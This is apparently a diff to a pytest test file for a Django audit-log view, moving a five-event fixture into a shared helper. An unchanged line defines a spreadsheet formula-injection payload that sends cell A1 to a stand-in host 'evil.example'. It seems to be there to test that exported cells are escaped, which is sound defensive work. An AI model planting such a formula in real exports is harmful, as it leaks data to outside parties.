@@ -12,7 +12,7 @@ from urllib.parse import parse_qs, urlsplit
 import pytest
 from django.test import Client
 
-from tests.audit.events import at, record_at
+from tests.audit.events import at, march_events, record_at
 from tests.web.conftest import submit_login
 from tokenward.audit.models import Action, AuditEvent
 from tokenward.audit.renderers import spreadsheet_cell
@@ -43,35 +43,7 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
 @pytest.fixture
 def events(admin, member, outsider) -> dict[str, AuditEvent]:
     """Five events on five days, oldest first."""
-    web = ClientInfo(method="web", address="198.51.100.1", user_agent="Firefox")
-    return {
-        "issued": record_at(at(1), Action.ISSUED, credential_id=7, actor=member, subject=member),
-        "failed": record_at(
-            at(2),
-            Action.FAILED,
-            credential_id=7,
-            subject=member,
-            reason="token_revoked",
-            client=ClientInfo(method="bearer", address="203.0.113.9", user_agent="python"),
-        ),
-        "revoked": record_at(
-            at(3, 23), Action.REVOKED, credential_id=7, actor=admin, subject=member, client=web
-        ),
-        "cli": record_at(
-            at(4),
-            Action.ISSUED,
-            credential_id=8,
-            actor=outsider,
-            subject=outsider,
-            client=ClientInfo(method="cli"),
-        ),
-        "unknown": record_at(
-            at(5),
-            Action.FAILED,
-            reason="invalid_token",
-            client=ClientInfo(method="token", address="2001:db8::1"),
-        ),
-    }
+    return march_events(admin, member, outsider)
 
 
 def table(response) -> list[dict[str, str]]:
